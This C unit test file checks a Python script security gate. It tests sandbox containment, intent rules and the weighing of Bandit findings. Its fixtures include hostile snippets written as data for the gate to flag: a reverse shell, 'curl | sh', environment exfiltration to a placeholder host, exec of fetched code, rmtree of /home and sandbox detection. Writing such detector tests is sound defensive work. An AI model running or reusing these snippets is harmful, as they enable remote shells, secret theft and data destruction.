/* The gate's judgment: a capability the run's sandbox denies is reported
 * as contained and counts MEDIUM at most (network only while the standard
 * level has none), intent holds whatever the sandbox, Bandit's findings
 * are weighed (dropped, the native judgment, or evidence), and a held
 * script carries the one reason to look. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "assess.h"
#include "assess_external.h"
#include "assess_fixture.h"
#include "testdir.h"

#define load assess_fixture_load
#define find assess_fixture_find

static void assess(const struct assess_rules *rules, const char *src, struct assess_result *r)
{
	assert_int_equal(assess_source(rules, "t.py", (const uint8_t *)src, strlen(src), r), 0);
}

/* One script, its level and a rule that must be among its findings (and
 * one that must not). */
struct gate_case {
	const char *src;
	enum level level;
	const char *rule, *absent;
};

static void check_cases(const struct assess_rules *rules, const struct gate_case *cases, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct assess_result r;
		assess(rules, cases[i].src, &r);
		if (r.level != cases[i].level || (cases[i].rule && !find(&r, cases[i].rule)) ||
		    (cases[i].absent && find(&r, cases[i].absent)))
			fail_msg("case %zu: level %s, %zu findings, first %s", i,
				 level_to_string(r.level), r.n_findings,
				 r.n_findings ? r.findings[0].rule_id : "none");
		assess_result_clear(&r);
	}
}

static void test_contained_capabilities_run(void **state)
{
	static const struct gate_case cases[] = {
		/* the network, with every level's network: none (the default) */
		{ "import requests\nrequests.get('https://example.com')\n", LEVEL_MEDIUM, "MAI033", NULL },
		/* a literal process start in a capability-less container */
		{ "import os\nos.system('cls')\n", LEVEL_MEDIUM, "MAI001", "MAI102" },
		{ "import subprocess\nsubprocess.run(['git', 'status'])\n", LEVEL_MEDIUM, "MAI006", NULL },
		/* a calculator: eval of what the person running it typed */
		{ "print(eval(input('> ')))\n", LEVEL_MEDIUM, "MAI010", "MAI101" },
		/* writes outside the working directory on a read-only root */
		{ "open('/etc/motd', 'w').write('x')\n", LEVEL_MEDIUM, "MAI050", NULL },
		/* the host's name is its identity, not a socket */
		{ "import socket\nprint(socket.gethostname())\n", LEVEL_LOW, "MAI073", "MAI030" },
		/* a Windows console call on a Linux sandbox */
		{ "import ctypes\nctypes.windll.kernel32.SetConsoleTitleW('x')\n", LEVEL_MEDIUM,
		  "MAI022", "MAI020" },
	};
	char *err = NULL;
	struct assess_rules *rules = load(*state, NULL, &err);
	struct assess_result r;

	assert_non_null(rules);
	check_cases(rules, cases, ARRAY_SIZE(cases));
	assess(rules, cases[0].src, &r);
	const struct assess_finding *f = find(&r, "MAI033");
	assert_int_equal(f->contained, ASSESS_CONTAINED_NETWORK);
	assert_int_equal(f->severity, ASSESS_SEV_HIGH); /* the rule's own, reported */
	assert_int_equal(assess_finding_counted_severity(f), ASSESS_SEV_MEDIUM);
	assert_true(f->score > 39.9 && f->score < 40.1);
	_cleanup_free_ char *text = assess_finding_describe(f);
	assert_string_equal(text, "makes an HTTP request (arguments: literal; contained: the "
				  "sandbox has no network)");
	json_t *j = assess_result_to_json(&r);
	json_t *jf = json_array_get(json_object_get(j, "findings"), 0);
	assert_string_equal(json_string_value(json_object_get(jf, "contained")), "network");
	assert_string_equal(json_string_value(json_object_get(jf, "contained_why")),
			    "contained: the sandbox has no network");
	assert_null(json_object_get(j, "reason")); /* it runs */
	json_decref(j);
	assess_result_clear(&r);

	/* The standard level (where a MEDIUM script runs) with the network:
	 * network findings count in full again; the rest stays contained. */
	struct assess_sandbox sb = { .network = { [TRUST_STANDARD] = true } };
	assess_rules_set_sandbox(rules, &sb);
	assess(rules, cases[0].src, &r);
	assert_int_equal(r.level, LEVEL_HIGH);
	assert_int_equal(find(&r, "MAI033")->contained, ASSESS_CONTAINED_NONE);
	assess_result_clear(&r);
	assess(rules, cases[1].src, &r);
	assert_int_equal(r.level, LEVEL_MEDIUM);
	assess_result_clear(&r);
	/* only trusted with network: a MEDIUM script never runs there */
	struct assess_sandbox trusted = { .network = { [TRUST_TRUSTED] = true } };
	assess_rules_set_sandbox(rules, &trusted);
	assess(rules, cases[0].src, &r);
	assert_int_equal(r.level, LEVEL_MEDIUM);
	assess_result_clear(&r);
	assess_rules_free(rules);

	/* an operator can make a rule count in full again */
	rules = load(*state, "rules:\n  - {id: MAI033, contained: false}\n", &err);
	assert_non_null(rules);
	assess(rules, cases[0].src, &r);
	assert_int_equal(r.level, LEVEL_HIGH);
	assess_result_clear(&r);
	assess_rules_free(rules);
}

static void test_intent_holds(void **state)
{
	static const struct gate_case cases[] = {
		{ "import requests\nexec(requests.get('https://x.example/p').text)\n", LEVEL_BLOCKED,
		  "MAI100", NULL },
		{ "import sys\nprint(eval(sys.argv[1]))\n", LEVEL_HIGH, "MAI101", NULL },
		{ "import os, sys\nos.system('ping ' + sys.argv[1])\n", LEVEL_HIGH, "MAI102", NULL },
		{ "import socket, getpass, requests\n"
		  "requests.post('https://x.example', data={'h': socket.gethostname(), "
		  "'u': getpass.getuser()})\n", LEVEL_HIGH, "MAI104", NULL },
		{ "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))\n",
		  LEVEL_HIGH, "MAI104", NULL },
		/* one named setting of the environment is the script's input */
		{ "import os, requests\nrequests.get('https://api.example', "
		  "headers={'k': os.environ.get('API_KEY')})\n", LEVEL_MEDIUM, "MAI033", "MAI104" },
		/* the host's own name resolved: no beacon */
		{ "import socket\nh = socket.gethostname()\nprint(socket.gethostbyname(h))\n",
		  LEVEL_MEDIUM, "MAI030", "MAI104" },
		{ "import os, socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\n"
		  "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n", LEVEL_BLOCKED,
		  "MAI122", NULL },
		{ "import os\nos.system('curl -s https://x.example/i | sh')\n", LEVEL_BLOCKED,
		  "MAI108", NULL },
		{ "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n",
		  LEVEL_HIGH, "MAI110", NULL },
		{ "import shutil\nshutil.rmtree('/home')\n", LEVEL_HIGH, "MAI055", NULL },
		{ "import shutil\nshutil.rmtree('build')\n", LEVEL_MEDIUM, "MAI053", "MAI055" },
		/* the home directory itself, a drive's root on Windows, with / or \\ */
		{ "import shutil\nshutil.rmtree('~')\n", LEVEL_HIGH, "MAI055", NULL },
		{ "import shutil\nshutil.rmtree('~/')\n", LEVEL_HIGH, "MAI055", NULL },
		{ "import os\nos.remove('C:\\\\Windows\\\\win.ini')\n", LEVEL_HIGH, "MAI055", NULL },
		{ "import os\nos.rmdir('d:/data')\n", LEVEL_HIGH, "MAI055", NULL },
		/* a file of the home directory, or a temporary one: not the whole */
		{ "import shutil\nshutil.rmtree('~/build')\n", LEVEL_MEDIUM, "MAI053", "MAI055" },
		{ "import os\nos.remove('/tmp/x.txt')\n", LEVEL_MEDIUM, "MAI053", "MAI055" },
		{ "import os\nos.remove('c:data.txt')\n", LEVEL_MEDIUM, "MAI053", "MAI055" },
		{ "import os\nos.unshare(0)\n", LEVEL_HIGH, "MAI120", NULL },
		{ "import os\nif os.path.exists('/.dockerenv'):\n    raise SystemExit\n", LEVEL_HIGH,
		  "MAI124", NULL },
		{ "import urllib.request, os\n"
		  "urllib.request.urlretrieve('http://x.example/a.exe', 'a.exe')\nos.startfile('a.exe')\n",
		  LEVEL_HIGH, "MAI123", NULL },
	};
	char *err = NULL;
	struct assess_rules *rules = load(*state, NULL, &err);
	struct assess_result r;

	assert_non_null(rules);
	check_cases(rules, cases, ARRAY_SIZE(cases));
	/* intent holds with the network allowed as well */
	struct assess_sandbox sb = { .network = { true, true, true } };
	assess_rules_set_sandbox(rules, &sb);
	check_cases(rules, cases, 5);

	/* the one reason to look: the worst finding, its line and rule */
	assess(rules, cases[2].src, &r);
	assert_string_equal(r.reason, "line 2: a shell command built from data from outside the "
				      "script (what is typed, arguments, files, the environment) (arguments: from "
				      "outside the script) [MAI102]");
	json_t *j = assess_result_to_json(&r);
	assert_string_equal(json_string_value(json_object_get(j, "reason")), r.reason);
	json_decref(j);
	assess_result_clear(&r);
	assess_rules_free(rules);
}

static void test_bandit_findings_are_weighed(void **state)
{
	/* Bandit's report on: 1 x = input()  2 subprocess.run('ls', shell=True)
	 * 3 subprocess.run(['ls'], shell=False)  4 requests.get(u, verify=False)
	 * 5 from Crypto.Cipher import AES  6 jinja2.Environment(autoescape=False) */
	static const char report[] =
		"{\"results\": ["
		"{\"test_id\": \"B322\", \"issue_severity\": \"HIGH\", \"issue_confidence\": \"HIGH\", "
		"\"line_number\": 1, \"col_offset\": 4, \"issue_text\": \"input\"},"
		"{\"test_id\": \"B602\", \"issue_severity\": \"HIGH\", \"issue_confidence\": \"HIGH\", "
		"\"line_number\": 2, \"col_offset\": 0, \"issue_text\": \"shell\"},"
		"{\"test_id\": \"B602\", \"issue_severity\": \"HIGH\", \"issue_confidence\": \"HIGH\", "
		"\"line_number\": 3, \"col_offset\": 0, \"issue_text\": \"shell\"},"
		"{\"test_id\": \"B501\", \"issue_severity\": \"HIGH\", \"issue_confidence\": \"HIGH\", "
		"\"line_number\": 4, \"col_offset\": 0, \"issue_text\": \"verify\"},"
		"{\"test_id\": \"B413\", \"issue_severity\": \"HIGH\", \"issue_confidence\": \"HIGH\", "
		"\"line_number\": 5, \"col_offset\": 0, \"issue_text\": \"pycrypto\"},"
		"{\"test_id\": \"B701\", \"issue_severity\": \"HIGH\", \"issue_confidence\": \"HIGH\", "
		"\"line_number\": 6, \"col_offset\": 0, \"issue_text\": \"autoescape\"}]}";
	static const char src[] = "x = input()\nimport subprocess; subprocess.run('ls', shell=True)\n"
				  "subprocess.run(['ls'], shell=False)\nimport requests\n"
				  "from Crypto.Cipher import AES\n"
				  "import jinja2; jinja2.Environment(autoescape=False)\n";
	char *err = NULL;
	struct assess_rules *rules = load(*state, NULL, &err);
	struct assess_result r;

	assert_non_null(rules);
	assess(rules, src, &r);
	assert_int_equal(assess_bandit_parse(report, sizeof(report) - 1, &r, &err), 0);
	assess_result_finish(rules, &r);
	size_t bandit = 0;
	for (size_t i = 0; i < r.n_findings; i++) {
		const struct assess_finding *f = &r.findings[i];
		if (strcmp(f->source, "bandit") != 0)
			continue;
		bandit++;
		/* B322 dropped, B602 of line 2 and B413 of line 5 merged (MAI074) */
		assert_true(f->line >= 3 && f->line != 5);
		if (f->line == 3) {
			/* the native analyzer saw shell=False: its judgment */
			assert_int_equal(f->weighed, ASSESS_WEIGHED_NATIVE);
			assert_true(f->score == 0);
		} else if (f->line == 4) {
			assert_int_equal(f->weighed, ASSESS_WEIGHED_EVIDENCE);
			assert_int_equal(f->contained, ASSESS_CONTAINED_NETWORK);
		} else {
			assert_int_equal(f->weighed, ASSESS_WEIGHED_EVIDENCE);
			assert_true(f->score > 69.9); /* at its stated HIGH x HIGH */
		}
	}
	assert_int_equal(bandit, 3);
	assert_int_equal(r.level, LEVEL_HIGH); /* B701 is Bandit's evidence */
	assert_non_null(strstr(r.reason, "(Bandit's finding)"));
	assert_int_equal(r.n_notes, 2);
	assert_string_equal(r.notes[0], "Bandit's findings, 6: 2 the same as the native analyzer's on "
					"their line (merged), 1 not counted (checks the native "
					"analyzer judges itself, knowing where arguments come from), "
					"2 counted as evidence at Bandit's severity and confidence, 1 "
					"dropped as Python 2 only (B322)");
	assert_non_null(strstr(r.notes[1], "Bandit's B322 dropped: "));
	/* a second finish (more analyzers) weighs nothing twice */
	assess_result_finish(rules, &r);
	assert_int_equal(r.n_notes, 2);
	assess_result_clear(&r);
	assess_rules_free(rules);

	/* security.yaml adds to bandit_checks; errors are positioned */
	rules = load(*state, "bandit_checks:\n  - {id: B701, judged: native}\n", &err);
	assert_non_null(rules);
	assess(rules, src, &r);
	assert_int_equal(assess_bandit_parse(report, sizeof(report) - 1, &r, &err), 0);
	assess_result_finish(rules, &r);
	assert_int_equal(r.level, LEVEL_MEDIUM);
	assess_result_clear(&r);
	assess_rules_free(rules);
	assert_null(load(*state, "bandit_checks:\n  - {id: B413, judged: maybe}\n", &err));
	assert_non_null(strstr(err, "security.yaml:2:"));
	assert_non_null(strstr(err, ": unknown judgment; expected evidence, "
				    "native or python2"));
	free(err);
	err = NULL;
	assert_null(load(*state, "bandit_checks:\n  - {id: B999, judged: python2}\n", &err));
	assert_non_null(strstr(err, "a Python 2 check without a why"));
	free(err);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_contained_capabilities_run, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_intent_holds, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_bandit_findings_are_weighed, testdir_setup, testdir_teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
